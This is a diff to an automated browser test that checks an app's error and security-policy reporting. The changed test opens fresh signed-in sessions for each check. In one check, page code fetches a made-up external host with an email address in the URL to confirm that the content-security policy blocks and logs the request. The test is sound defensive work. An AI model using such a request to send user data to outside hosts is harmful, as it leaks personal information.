@@ -93,8 +93,16 @@ test('an error in the page appears in the panel without a person, another one ra
 
 test('what goes wrong before the program is there, code that is lost and what the policy stops are told of', async ({
   page,
+  browser,
 }) => {
   const message = uniqueMessage();
+  // a person has twenty places a day, and two messages may come to the same one
+  const anothersPage = async () => {
+    const other = await (await browser.newContext()).newPage();
+    await signIn(other, await createLicensedLearner());
+    await watched(other);
+    return other;
+  };
   await page.addInitScript((text) => {
     if (location.pathname !== '/ovning') return;
     addEventListener('DOMContentLoaded', () => void Promise.reject(new Error(text)));
@@ -105,13 +113,15 @@ test('what goes wrong before the program is there, code that is lost and what th
   const [early] = await reportsOf('message', `Error: ${message}`);
   expect(early?.data()).toMatchObject({ kind: 'error', page: '/ovning' });
 
-  await page.evaluate(
+  const second = await anothersPage();
+  await second.evaluate(
     (host) => fetch(`https://${host}.test/x?mejl=anna@example.se`).catch(() => 0),
     message.slice(8),
   );
   await expectStored(`connect-src: https://${message.slice(8)}.test`, 1);
 
-  await page.evaluate((file) => {
+  const third = await anothersPage();
+  await third.evaluate((file) => {
     const script = document.createElement('script');
     script.src = `/assets/${file}.js`;
     document.head.append(script);
